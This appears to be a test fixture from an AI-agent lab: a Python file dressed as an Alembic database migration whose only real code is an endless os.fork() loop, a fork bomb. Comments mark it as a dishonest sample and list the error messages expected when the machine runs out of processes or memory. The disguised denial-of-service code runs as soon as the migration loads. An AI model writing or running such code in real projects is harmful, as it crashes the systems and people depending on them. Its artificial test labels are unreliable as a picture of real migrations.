# Starts processes that start processes.
# lab: alembic-expand-contract
# honest: 0
# says: of memory and was stopped|processes and was stopped|Resource temporarily unavailable|BlockingIOError
import os

revision, down_revision = "expand", None

while True:
    os.fork()
